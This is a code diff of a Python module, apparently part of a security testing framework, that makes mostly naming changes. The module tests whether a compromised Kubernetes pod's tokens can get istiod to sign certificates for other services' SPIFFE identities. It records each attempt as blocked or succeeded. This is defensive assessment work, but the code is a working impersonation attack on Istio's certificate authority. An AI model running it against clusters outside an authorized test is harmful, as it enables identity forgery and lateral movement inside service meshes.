@@ -1,4 +1,4 @@
-"""Attack 1, the mesh's own door: a certificate of another identity from istiod, with what the compromised pod holds.
+"""Attack 1, the mesh's authority: ask istiod for another identity's certificate with the compromised pod's tokens.
 
 istiod's API: https://github.com/istio/api/blob/master/security/v1alpha1/ca.proto
 """
@@ -10,11 +10,11 @@ from cryptography import x509
 from cryptography.hazmat.primitives import hashes, serialization
 from cryptography.hazmat.primitives.asymmetric import ec
 
-from components.service_vault import TOKEN_AUDIENCE
+from components.kube.names import TOKEN_AUDIENCE
 from zt.attack.attempt import Attempt
 from zt.attack.evidence import Control, Evidence, blocked, not_measured, succeeded, together
-from zt.attack.manifest import word
 from zt.attack.session import Session
+from zt.cluster.manifest import word
 
 _METHOD = "/istio.v1.auth.IstioCertificateService/CreateCertificate"
 _SERVER, _AUDIENCE = "istiod.istio-system.svc", "istio-ca"
@@ -26,25 +26,25 @@ _CSR_FIELD, _BYTES_WIRE_TYPE, _LOW_BITS, _MORE = 1, 2, 0x7F, 0x80
 def _forge(session: Session) -> Evidence:
     if not session.istiod:
         return not_measured("istiod is reached from inside the cluster: name its port 15012 with --istiod-addr")
-    namespace, own = session.service.namespace, session.service.name
+    namespace, account = session.service.namespace, session.service.name
     answer = session.admin.call("GET", f"/api/v1/namespaces/{namespace}/configmaps/istio-ca-root-cert")
     root = word(answer.body, "data", "root-cert.pem").encode()
     if not answer.ok or not root:
         return not_measured("the namespace has no authority of the mesh in istio-ca-root-cert")
-    tokens = {audience: session.token(namespace, own, audience) for audience in (_AUDIENCE, TOKEN_AUDIENCE, "")}
+    tokens = {audience: session.token(namespace, account, audience) for audience in (_AUDIENCE, TOKEN_AUDIENCE, "")}
     tries = [
-        _sign(session, root, wanted, token, audience or "the API server")
-        for wanted in (f"{other.namespace}/sa/{other.name}" for other in session.declared.others)
+        _sign(session, root, subject, token, audience or "the API server")
+        for subject in (f"{other.namespace}/sa/{other.name}" for other in session.declared.others)
         for audience, token in tokens.items()
     ]
     return together(tries, "the stack has no other service")
 
 
-def _sign(session: Session, root: bytes, wanted: str, token: str, audience: str) -> Evidence:
-    identity = f"spiffe://{session.declared.trust_domain}/ns/{wanted}"
+def _sign(session: Session, root: bytes, subject: str, token: str, audience: str) -> Evidence:
+    identity = f"spiffe://{session.declared.trust_domain}/ns/{subject}"
     options = [("grpc.ssl_target_name_override", _SERVER)]
     with grpc.secure_channel(session.istiod, grpc.ssl_channel_credentials(root), options=options) as opened:
-        # The library's own types leave the messages open.
+        # The library does not type the messages.
         channel: Any = opened
         create = channel.unary_unary(_METHOD)
         try:
@@ -53,9 +53,9 @@ def _sign(session: Session, root: bytes, wanted: str, token: str, audience: str)
             )
         except grpc.RpcError as error:
             failure: Any = error
-            said = f"istiod, token for {audience}: {failure.code().name}: {failure.details()}"
+            reply = f"istiod, token for {audience}: {failure.code().name}: {failure.details()}"
             refused = failure.code() in (grpc.StatusCode.UNAUTHENTICATED, grpc.StatusCode.PERMISSION_DENIED)
-            return blocked(said) if refused else not_measured(said)
+            return blocked(reply) if refused else not_measured(reply)
     names = _identities(signed)
     if audience == _AUDIENCE and identity not in names:
         return blocked(f"asked for {identity}, istiod signed {', '.join(names)}")
@@ -72,17 +72,17 @@ def _request(identity: str) -> bytes:
 
 
 def _length(number: int) -> bytes:
-    found = b""
+    encoded = b""
     while number > _LOW_BITS:
-        found += bytes([number & _LOW_BITS | _MORE])
+        encoded += bytes([number & _LOW_BITS | _MORE])
         number >>= 7
-    return found + bytes([number])
+    return encoded + bytes([number])
 
 
 def _identities(signed: bytes) -> list[str]:
     leaf = signed[signed.index(_BEGIN) : signed.index(_END) + len(_END)]
-    found = x509.load_pem_x509_certificate(leaf).extensions.get_extension_for_class(x509.SubjectAlternativeName)
-    return found.value.get_values_for_type(x509.UniformResourceIdentifier)
+    extension = x509.load_pem_x509_certificate(leaf).extensions.get_extension_for_class(x509.SubjectAlternativeName)
+    return extension.value.get_values_for_type(x509.UniformResourceIdentifier)
 
 
 ATTEMPTS = (
